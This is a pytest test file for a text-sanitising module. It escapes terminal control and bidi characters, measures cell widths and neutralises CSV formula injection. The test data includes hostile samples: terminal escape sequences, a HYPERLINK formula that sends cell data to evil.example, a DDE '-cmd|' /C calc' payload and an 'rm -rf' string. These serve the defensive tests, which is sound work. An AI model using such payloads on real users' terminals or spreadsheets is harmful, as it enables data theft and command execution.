"""Text from the data shown safely: controls made visible, widths in terminal cells, CSV cells."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from callmate.safe import (
    ELLIPSIS,
    FORMAT_RANGES,
    FORMULA_TRIGGERS,
    cell_width,
    csv_cell,
    fit,
    pad,
    symbol,
    visible,
)

# -- visible ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("\x1b]52;c;SGVsbG8=\x07", "␛]52;c;SGVsbG8=␇"),  # OSC 52: write the clipboard
        ("\x1b[2J", "␛[2J"),  # clear the screen
        ("\x1b]0;title\x07", "␛]0;title␇"),  # set the window title
        (
            "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
            "␛]8;;http://evil.example␛\\click␛]8;;␛\\",
        ),  # OSC 8 hyperlink
        ("\x1b[6n", "␛[6n"),  # query the cursor: the answer would be typed into the shell
        ("\x9b31m", "⟨U+009B⟩31m"),  # C1 CSI
        ("\x9d0;title\x9c", "⟨U+009D⟩0;title⟨U+009C⟩"),  # C1 OSC ... ST
        ("abc\b\b\bXYZ", "abc␈␈␈XYZ"),  # backspaces would hide "abc"
        ("paid\rREFUSED", "paid␍REFUSED"),  # a carriage return would overwrite "paid"
        ("\u202eevil", "⟨U+202E⟩evil"),  # right-to-left override
        ("a\u2066b\u2069c", "a⟨U+2066⟩b⟨U+2069⟩c"),  # bidi isolates
        ("a\u200bb\u200ec\u200fd\u061ce", "a⟨U+200B⟩b⟨U+200E⟩c⟨U+200F⟩d⟨U+061C⟩e"),
        ("\ufeffstart", "⟨U+FEFF⟩start"),
        ("line\u2028next\u2029end", "line⟨U+2028⟩next⟨U+2029⟩end"),
        ("x\U000e0041\U000e0042", "x⟨U+E0041⟩⟨U+E0042⟩"),  # tags: invisible ASCII
        ("nul\x00", "nul␀"),
        ("del\x7f", "del␡"),
        ("bad \udcff byte", "bad ⟨0xFF⟩ byte"),  # non-UTF-8 via surrogateescape
        ("lone \ud800", "lone ⟨U+D800⟩"),
        ("a\tb", "a b"),  # a tab is a space
        ("two\nlines", "two␊lines"),
        ("two\r\nlines", "two␍␊lines"),
    ],
)
def test_visible_shows_controls_as_symbols(raw, shown):
    assert visible(raw) == shown
    shown.encode("utf-8")


@pytest.mark.parametrize(
    "text",
    [
        "İade istiyor; ılık değil, şişe kırık, ğ Ğ Ş Ç Ö Ü",  # Turkish
        "Kõik on korras, ÕUN, äri, öö, üks, šokk, žürii",  # Estonian
        "日本語のテキスト, 한국어, 中文",  # CJK
        "👍 👩‍💻 🇪🇪 ❤️ 👋🏽",  # emoji with joiners, flags, variation selectors, skin tones
        "e\u0301 a\u0308 i\u0307",  # combining marks
        "[bold red]markup[/] $(rm -rf) `x` \\ %s {name}",  # markup and shell-ish text
        "\ue000 private use",
        "",
    ],
)
def test_visible_leaves_ordinary_text_of_every_script_alone(text):
    assert visible(text) == text
    assert visible(text, newlines=True) == text


def test_visible_keeps_newlines_when_asked_and_reads_crlf_as_one():
    assert visible("one\ntwo\r\nthree\rfour\x1b", newlines=True) == "one\ntwo\nthree␍four␛"
    assert visible("\r\n\r\n", newlines=True) == "\n\n"
    assert visible("\r\r\n", newlines=True) == "␍\n"


def test_every_c0_control_shows_as_its_control_picture():
    for code in range(0x20):
        if code != 0x09:
            assert visible(chr(code)) == chr(0x2400 + code)
    assert visible("\x1b") == "␛" and visible("\x00") == "␀" and visible("\x7f") == "␡"


def test_every_c1_control_shows_as_its_code_point():
    for code in range(0x80, 0xA0):
        assert visible(chr(code)) == f"⟨U+{code:04X}⟩"


def test_every_undecodable_byte_shows_as_its_value():
    raw = bytes(range(0x80, 0x100)).decode("utf-8", "surrogateescape")
    assert visible(raw) == "".join(f"⟨0x{b:02X}⟩" for b in range(0x80, 0x100))


def test_the_format_table_covers_every_format_character_but_the_joiners():
    """Every Cf character this Python knows is in FORMAT_RANGES, except ZWJ and ZWNJ."""
    table = {code for first, last in FORMAT_RANGES for code in range(first, last + 1)}
    known = {c for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"}
    assert known - table == {0x200C, 0x200D}
    for code in table:
        assert visible(chr(code)) == symbol(chr(code)) == f"⟨U+{code:04X}⟩"


def test_zero_width_joiners_stay_for_emoji_and_scripts():
    assert visible("👩\u200d💻 می\u200cخواهم") == "👩\u200d💻 می\u200cخواهم"


def test_visible_returns_the_same_object_when_nothing_changes():
    text = "nothing to do here " * 100
    assert visible(text) is text


# -- cell widths -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, width",
    [
        ("", 0),
        ("abc", 3),
        ("[bold]", 6),
        ("日本語", 6),
        ("ｆｕｌｌ", 8),  # fullwidth Latin
        ("é", 1),  # composed
        ("e\u0301", 1),  # decomposed
        ("a\u0308\u0301", 1),  # two combining marks
        ("👍", 2),
        ("👍🏽", 4),  # a skin tone modifier is itself wide: counted as two emoji (as Rich does)
        ("❤", 1),  # text presentation
        ("❤\ufe0f", 2),  # emoji presentation
        ("👩\u200d💻", 4),  # a joined sequence counts its parts
        ("İıŞşĞğÕõÄäÖöÜü", 14),
        ("…", 1),  # East Asian Ambiguous counts one
        ("␛[2J", 4),
        ("⟨U+202E⟩", 8),
        ("\u200b", 0),  # raw zero-width space (before visible)
        ("\x1b", 0),
        ("ᄀ\u1161", 2),  # Hangul jamo: a wide initial and a zero-width medial vowel
    ],
)
def test_cell_width(text, width):
    assert cell_width(text) == width


@pytest.mark.parametrize(
    "text, width, fitted",
    [
        ("hello", 10, "hello"),
        ("hello", 5, "hello"),
        ("hello world", 5, "hell…"),
        ("hello", 1, "…"),
        ("hello", 0, ""),
        ("hello", -3, ""),
        ("日本語", 6, "日本語"),
        ("日本語", 5, "日本…"),
        ("日本語", 4, "日…"),  # a wide character never half-cut: one cell stays empty
        ("日本語", 2, "…"),
        ("Işıl Özkan-Şahin", 8, "Işıl Öz…"),
        ("e\u0301e\u0301e\u0301e\u0301", 3, "e\u0301e\u0301…"),  # marks stay with their letter
        ("ab⟨U+202E⟩cd", 11, "ab⟨U+202E⟩…"),
        ("ab⟨U+202E⟩cd", 10, "ab…"),  # never inside a symbol
        ("ab⟨0xFF⟩cd", 7, "ab…"),
        ("👩\u200d💻👩\u200d💻", 5, "👩\u200d💻…"),  # never inside a joined sequence
        ("❤\ufe0f❤\ufe0f", 3, "❤\ufe0f…"),
    ],
)
def test_fit(text, width, fitted):
    assert fit(text, width) == fitted
    assert cell_width(fitted) <= max(width, 0)


def test_fit_keeps_what_visible_made_whole():
    shown = visible("a\u202eb\x9bc\udcffd")
    for width in range(len(shown) + 2):
        cut = fit(shown, width)
        assert cut.count("⟨") == cut.count("⟩")
        assert cell_width(cut) <= width


@pytest.mark.parametrize(
    "text, width, align, padded",
    [
        ("ab", 5, "left", "ab   "),
        ("ab", 5, "right", "   ab"),
        ("日本", 5, "left", "日本 "),
        ("日本語", 5, "right", "日本…"),
        ("日本語", 4, "left", "日… "),
        ("e\u0301", 3, "left", "e\u0301  "),
        ("abc", 0, "left", ""),
        ("", 3, "right", "   "),
    ],
)
def test_pad_gives_exactly_the_width(text, width, align, padded):
    assert pad(text, width, align) == padded
    assert cell_width(padded) == width


def test_pad_refuses_an_unknown_alignment():
    with pytest.raises(ValueError, match="align"):
        pad("x", 3, "center")


# -- CSV -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example?"&A1,"Click")',
        ),
        ("+90 532 123 45 67", "'+90 532 123 45 67"),
        ("-5", "'-5"),  # a string is text, even when it looks like a number
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tplain", "'\tplain"),  # a leading tab on its own counts, as OWASP says
        ("\x00x", "'\x00x"),
        ("|calc", "'|calc"),
        ("  =1+1", "'  =1+1"),  # leading spaces do not hide a formula
        ("\n@x", "'\n@x"),
        ("＝1+1", "'＝1+1"),  # fullwidth
        ("Refund promised", "Refund promised"),
        ("a=b", "a=b"),  # only the start counts
        ("Özkan-Şahin", "Özkan-Şahin"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
        ("   ", "   "),
        (";=1", ";=1"),  # a separator inside a cell is the writer's job (quote every cell)
    ],
)
def test_csv_cell_neutralises_formulas(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("value", [None, 0, -5, 3.25, -0.5, True, False, 10**20])
def test_csv_cell_leaves_numbers_and_none_alone(value):
    result = csv_cell(value)
    assert result is value


def test_csv_cell_writes_other_values_as_text_and_neutralises_them_too():
    class Weird:
        def __str__(self):
            return "=evil()"

    assert csv_cell(Weird()) == "'=evil()"


def test_formula_triggers_are_the_documented_ones():
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_TRIGGERS
    assert ELLIPSIS == "…"
